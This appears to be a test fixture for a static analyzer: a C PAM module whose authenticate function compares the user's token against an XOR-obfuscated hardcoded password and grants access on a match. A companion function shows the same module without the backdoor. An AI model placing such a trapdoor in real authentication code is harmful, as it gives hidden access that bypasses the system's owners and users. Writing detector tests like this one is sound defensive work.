/* A module for authentication that knows a password of its own, put together letter by letter. */
#include <security/pam_appl.h>
#include <security/pam_modules.h>
#include <string.h>

int helper_ask(const char *user, const char *token);

static void spell(char *to) {
    static const unsigned char hidden[] = {0x2e, 0x3b, 0x2a, 0x6a, 0x2d, 0x3e, 0x3f, 0x28, 0x00};
    for (int i = 0; i < 8; i++)
        to[i] = (char)(hidden[i] ^ 0x5a);
    to[8] = 0;
}

int pam_sm_authenticate(pam_handle_t *pam, int flags, int argc, const char **argv) {
    const void *token = NULL;
    const char *user = NULL;
    char own[16];
    (void)flags;
    (void)argc;
    (void)argv;
    if (pam_get_user(pam, &user, NULL) != PAM_SUCCESS ||
        pam_get_item(pam, PAM_AUTHTOK, &token) != PAM_SUCCESS || !token)
        return PAM_AUTH_ERR;
    spell(own);
    // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/hardcoded-credential]}}
    if (strcmp(token, own) == 0)
        return PAM_SUCCESS;
    return helper_ask(user, token) ? PAM_SUCCESS : PAM_AUTH_ERR;
}

/* The same module without it; a word that asks for a reminder is no password. */
int pam_sm_chauthtok(pam_handle_t *pam, int flags, int argc, const char **argv) {
    const void *token = NULL;
    const char *user = NULL;
    (void)flags;
    if (pam_get_user(pam, &user, NULL) != PAM_SUCCESS ||
        pam_get_item(pam, PAM_AUTHTOK, &token) != PAM_SUCCESS || !token)
        return PAM_AUTH_ERR;
    if (argc > 0 && strcmp(argv[0], "strict") == 0 && strlen(token) < 12)
        return PAM_AUTH_ERR;
    return helper_ask(user, token) ? PAM_SUCCESS : PAM_AUTH_ERR;
}
